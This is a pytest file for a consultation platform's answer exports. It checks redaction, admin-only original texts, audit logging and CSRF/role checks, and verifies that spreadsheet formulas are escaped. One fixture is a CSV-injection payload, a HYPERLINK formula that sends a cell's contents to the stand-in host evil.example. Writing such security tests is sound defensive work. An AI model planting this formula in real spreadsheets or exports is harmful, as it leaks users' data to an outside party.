"""Exports of the answers: what the files hold (approved, redacted text only), formulas escaped,
the full export for admins only, every export on the audit record; opened the way an analyst
would open them (csv, openpyxl, json)."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
import sqlalchemy as sa
from flask import Flask
from openpyxl import load_workbook

from consult.core.extensions import db
from consult.models import AuditEvent, Response, ResponseTranslation
from consult.moderation.operations import Decision
from consult.outcomes.export_rows import iter_answers
from consult.outcomes.spreadsheet import spreadsheet_safe
from consult.translation.desk import save_translation
from consult.vocab import Stance
from tests.outcomes.support import consultation, moderate, staff
from tests.support.browser import Browser
from tests.support.factories import staff_member, submission
from tests.support.journey import SLUG
from tests.support.staff import log_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ORIGINAL = "Call my brother Karim on +49 151 23456789, he knows the lawyer."
REDACTED = "Call my brother [name] on [phone], he knows the lawyer."
ARABIC = "نحتاج إلى محامين يتكلمون لغتنا"
SECRETS = ("PENDING-SECRET", "REJECTED-SECRET", "SAFEGUARDING-SECRET", "Karim", "23456789")
EXPORT = f"/staff/c/{SLUG}/export"


@pytest.fixture
def answers(demo_app: Flask) -> dict[str, int]:
    """Answers in every moderation state, a formula, a redaction, Arabic, a stance alone and a
    human translation; returns the response ids by name."""
    app = demo_app
    ids = {
        "formula": submission(app, [FORMULA]).response_ids[0],
        "redacted": submission(app, [ORIGINAL], stance="partly").response_ids[0],
        "arabic": submission(app, [ARABIC], lang="ar", stance="disagree").response_ids[0],
        "pending": submission(app, ["PENDING-SECRET"]).response_ids[0],
        "rejected": submission(app, ["REJECTED-SECRET"]).response_ids[0],
        "safeguarding": submission(app, ["SAFEGUARDING-SECRET"]).response_ids[0],
        "stance_only": submission(app, [""], stance="not_sure").response_ids[0],
    }
    moderate(app, ids["formula"], Decision.APPROVE)
    moderate(app, ids["redacted"], Decision.REDACT, public_text=REDACTED)
    moderate(app, ids["arabic"], Decision.APPROVE)
    moderate(app, ids["rejected"], Decision.REJECT)
    moderate(app, ids["safeguarding"], Decision.ESCALATE)
    staff_member(app, "translator@example.org", "translator")
    staff_member(app, "org@example.org", "organiser")
    staff_member(app, "admin@example.org", "admin")
    with app.app_context():
        save_translation(
            db.session.get(Response, ids["arabic"]),
            "en",
            "We need lawyers who speak our language",
            staff("translator@example.org"),
        )
        db.session.add(
            ResponseTranslation(
                response_id=ids["arabic"],
                language="fr",
                text="=1+1 nous avons besoin d'avocats",
                provenance="machine:argos",
            )
        )
        db.session.commit()
    return ids


def _download(browser: Browser, path: str) -> tuple[int, bytes, dict[str, str]]:
    """Press the download button whose form posts to `path` on the export page; the body is
    streamed (never built whole in the app) and read here chunk by chunk."""
    page = browser.get(EXPORT)
    assert page.status == 200, page.text
    form = page.soup.find("form", attrs={"action": path})
    assert form is not None, f"no button for {path}"
    token = form.find("input", attrs={"name": "csrf_token"})["value"]
    response = browser.client.post(path, data={"csrf_token": token}, buffered=False)
    if response.status_code == 200:
        assert response.is_streamed
    body = b"".join(response.response)
    response.close()
    return response.status_code, body, dict(response.headers)


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_holds_approved_redacted_answers_with_formulas_escaped(
    demo_app: Flask, answers: dict[str, int]
) -> None:
    browser = log_in(demo_app, "org@example.org")
    status, body, headers = _download(browser, f"{EXPORT}/answers.csv")
    assert status == 200
    today = date.today().isoformat()
    assert headers["Content-Disposition"] == (f'attachment; filename="{SLUG}-answers-{today}.csv"')
    assert headers["Content-Type"].startswith("text/csv")
    text = body.decode("utf-8-sig")
    for secret in SECRETS:
        assert secret not in text
    assert "original_text" not in text
    rows = {int(row["answer_id"]): row for row in _csv_rows(body)}
    expected = {answers[k] for k in ("formula", "redacted", "arabic", "stance_only")}
    assert set(rows) == expected
    assert rows[answers["formula"]]["text"] == "'" + FORMULA
    assert rows[answers["redacted"]]["text"] == REDACTED
    assert rows[answers["redacted"]]["stance"] == "partly"
    arabic = rows[answers["arabic"]]
    assert arabic["text"] == ARABIC
    assert arabic["language"] == "ar"
    assert arabic["translation_en"] == "We need lawyers who speak our language"
    assert arabic["translation_en_made_by"] == "human:translator@example.org"
    assert arabic["translation_fr"] == "'=1+1 nous avons besoin d'avocats"
    assert arabic["translation_fr_made_by"] == "machine:argos (draft)"
    assert arabic["recommendation"] == consultation_key(demo_app, 1)
    assert rows[answers["stance_only"]]["text"] == ""
    assert rows[answers["stance_only"]]["stance"] == "not_sure"
    assert arabic["submitted_on"] == today
    # No cell anywhere starts a formula.
    for row in _csv_rows(body):
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def consultation_key(app: Flask, position: int) -> str:
    with app.app_context():
        return next(r.key for r in consultation().recommendations if r.position == position)


def test_xlsx_opens_with_answers_recommendations_and_suppressed_stance_counts(
    demo_app: Flask, answers: dict[str, int]
) -> None:
    browser = log_in(demo_app, "org@example.org")
    status, body, headers = _download(browser, f"{EXPORT}/answers.xlsx")
    assert status == 200
    assert headers["Content-Disposition"].endswith(f'-answers-{date.today().isoformat()}.xlsx"')
    workbook = load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Answers", "Recommendations", "Stances"]
    sheet = workbook["Answers"]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert {c["answer_id"] for c in cells} == {
        answers[k] for k in ("formula", "redacted", "arabic", "stance_only")
    }
    by_id = {c["answer_id"]: c for c in cells}
    assert by_id[answers["formula"]]["text"] == "'" + FORMULA
    assert by_id[answers["redacted"]]["text"] == REDACTED
    # Nothing in the workbook is a formula, and no secret is anywhere in it.
    for name in workbook.sheetnames:
        for row in workbook[name].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not any(secret in cell.value for secret in SECRETS)
    titles = list(workbook["Recommendations"].iter_rows(values_only=True))
    assert titles[0] == ("recommendation", "position", "title")
    assert len(titles) == 1 + 8
    # Stance counts: 7 submissions answered the first idea (every state counts, as on the
    # dashboard); each stance has fewer than 5 people, so every non-zero cell shows "<5".
    stances = list(workbook["Stances"].iter_rows(values_only=True))
    head = stances[1]
    assert head == (
        "recommendation", "position", "breakdown", "category",
        "agree", "partly", "disagree", "not_sure", "skipped", "total",
    )  # fmt: skip
    first = consultation_key(demo_app, 1)
    overall = next(r for r in stances[2:] if r[0] == first and r[2] == "all")
    values = dict(zip(head[4:], overall[4:], strict=True))
    # agree: formula, pending, rejected, safeguarding (4); one each partly, disagree, not sure:
    # every count is small. The total (7) may be shown or hidden to protect them, and the zero
    # (skipped) shown or marked "<5" when the suppression module hides a whole table; a small
    # count is never shown.
    total = values.pop("total")
    skipped = values.pop("skipped")
    assert values == {"agree": "<5", "partly": "<5", "disagree": "<5", "not_sure": "<5"}
    assert skipped in (0, "<5")
    assert total in (7, "–")
    # A language row with one person: its cells are hidden, never 1.
    arabic_row = next(r for r in stances[2:] if r[0] == first and r[3] == "ar")
    assert 1 not in arabic_row[4:]
    assert "<5" in arabic_row[4:]


def test_json_has_every_translation_with_its_maker_and_no_hidden_text(
    demo_app: Flask, answers: dict[str, int]
) -> None:
    browser = log_in(demo_app, "org@example.org")
    status, body, _headers = _download(browser, f"{EXPORT}/answers.json")
    assert status == 200
    document = json.loads(body)
    assert document["consultation"] == SLUG
    assert document["with_original_texts"] is False
    for secret in SECRETS:
        assert secret not in body.decode()
    by_id = {a["id"]: a for a in document["answers"]}
    arabic = by_id[answers["arabic"]]
    assert arabic["text"] == ARABIC  # JSON keeps the exact text
    assert {(t["language"], t["provenance"], t["translator"], t["reviewed"]) for t in
            arabic["translations"]} == {
        ("en", "human", "translator@example.org", True),
        ("fr", "machine:argos", None, False),
    }  # fmt: skip
    assert by_id[answers["formula"]]["text"] == FORMULA
    assert "original_text" not in arabic
    assert set(arabic["profile"]) == {"stage", "age_band", "groups", "groups_declined"}


def test_full_export_is_for_admins_only_and_on_the_record(
    demo_app: Flask, answers: dict[str, int]
) -> None:
    organiser = log_in(demo_app, "org@example.org")
    page = organiser.get(EXPORT)
    assert "answers-with-originals" not in page.html
    demo_app.config["WTF_CSRF_ENABLED"] = False
    refused = organiser.client.post(f"{EXPORT}/answers-with-originals.csv")
    assert refused.status_code == 403
    demo_app.config["WTF_CSRF_ENABLED"] = True

    admin = log_in(demo_app, "admin@example.org")
    status, body, headers = _download(admin, f"{EXPORT}/answers-with-originals.csv")
    assert status == 200
    assert "-answers-with-originals-" in headers["Content-Disposition"]
    rows = {int(r["answer_id"]): r for r in _csv_rows(body)}
    assert rows[answers["redacted"]]["original_text"] == ORIGINAL
    assert rows[answers["redacted"]]["text"] == REDACTED
    # Originals of the exported (approved) answers only: never a rejected or safeguarding one.
    for secret in ("PENDING-SECRET", "REJECTED-SECRET", "SAFEGUARDING-SECRET"):
        assert secret not in body.decode("utf-8-sig")

    with demo_app.app_context():
        events = db.session.scalars(
            sa.select(AuditEvent).where(AuditEvent.action.startswith("export."))
        ).all()
        assert [(e.action, e.actor_label, e.new_state) for e in events] == [
            (
                "export.answers_with_originals",
                "admin@example.org",
                {"format": "csv", "with_original_texts": True, "answers": 4},
            )
        ]
        assert "Karim" not in json.dumps([e.new_state for e in events])


def test_every_export_is_recorded_with_format_and_count(
    demo_app: Flask, answers: dict[str, int]
) -> None:
    browser = log_in(demo_app, "org@example.org")
    for fmt in ("csv", "xlsx", "json"):
        assert _download(browser, f"{EXPORT}/answers.{fmt}")[0] == 200
    with demo_app.app_context():
        events = db.session.scalars(
            sa.select(AuditEvent).where(AuditEvent.action == "export.answers")
        ).all()
        assert [(e.actor_label, e.object_type, e.new_state["format"], e.new_state["answers"])
                for e in events] == [
            ("org@example.org", "consultation", fmt, 4) for fmt in ("csv", "xlsx", "json")
        ]  # fmt: skip


def test_export_needs_the_form_token_and_the_role(demo_app: Flask, answers: dict[str, int]) -> None:
    staff_member(demo_app, "mod2@example.org", "moderator")
    moderator = log_in(demo_app, "mod2@example.org")
    assert moderator.get(EXPORT).status == 403
    organiser = log_in(demo_app, "org@example.org")
    forged = organiser.client.post(f"{EXPORT}/answers.csv", data={})
    assert forged.status_code in (400, 403)
    assert b"answer_id" not in forged.get_data()
    with demo_app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(AuditEvent.id)).where(
            AuditEvent.action.startswith("export."))) == 0  # fmt: skip


def test_unknown_consultation_is_404(demo_app: Flask, answers: dict[str, int]) -> None:
    browser = log_in(demo_app, "org@example.org")
    assert browser.get("/staff/c/no-such-thing/export").status == 404


def test_rows_are_read_in_batches_in_id_order(demo_app: Flask, answers: dict[str, int]) -> None:
    """A batch size smaller than the answers: every answer once, in order, with its
    translations and groups (each batch reads its own)."""
    with demo_app.app_context():
        rows = list(iter_answers(consultation(), batch_size=1))
        assert [r.answer_id for r in rows] == sorted(
            answers[k] for k in ("formula", "redacted", "arabic", "stance_only")
        )
        arabic = next(r for r in rows if r.answer_id == answers["arabic"])
        assert {t.language for t in arabic.translations} == {"en", "fr"}
        assert all(r.stance != Stance.SKIPPED for r in rows)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("a = b", "a = b"),
        ("", ""),
        (3, 3),
    ],
)
def test_spreadsheet_safe(value: object, expected: object) -> None:
    assert spreadsheet_safe(value) == expected
